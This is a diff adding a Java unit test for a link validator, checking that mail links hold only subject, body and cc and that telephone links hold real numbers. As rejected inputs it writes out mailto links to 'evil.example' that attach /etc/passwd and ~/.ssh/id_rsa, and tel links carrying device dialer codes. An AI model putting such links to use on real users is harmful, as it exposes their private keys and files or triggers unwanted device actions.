@@ -72,6 +72,20 @@ class UrlsTest {
         assertNull(Urls.linkProblem(address), address);
     }
 
+    /** A mail link fills in a subject, a body and copies only; a telephone link dials a number, not a device code (an attacker's trial). */
+    @org.junit.jupiter.api.Test
+    void mailAndTelephoneLinksHoldOnlyWhatTheyShould() {
+        assertNull(Urls.linkProblem("mailto:desk@example.org?subject=Hello%20there&body=Hi&cc=b@example.org"));
+        assertNull(Urls.linkProblem("tel:+44-20-7946-0000"));
+        assertNull(Urls.linkProblem("tel:(020)%207946-0000"));
+        assertEquals(true, Urls.linkProblem("mailto:desk@evil.example?attach=/etc/passwd&body=see").startsWith("fills in `attach`"));
+        assertEquals(true, Urls.linkProblem("mailto:desk@evil.example?Subject=a&ATTACH=~/.ssh/id_rsa").startsWith("fills in `attach`"));
+        for (String code : new String[]{"tel:*2767*3855%23", "tel:*%2306%23", "tel:+44#1", "tel:12"}) {
+            assertEquals(true, String.valueOf(Urls.linkProblem(code)).startsWith("is not a telephone number"), code);
+        }
+        assertEquals("keep only subject=, body= and cc= after the `?`", Urls.linkFix("mailto:a@b.example?attach=x"));
+    }
+
     /** A srcset as a browser reads it: addresses up to white space, commas inside them theirs, descriptors up to a comma. */
     @org.junit.jupiter.api.Test
     void aSrcsetIsReadAsABrowserReadsIt() {
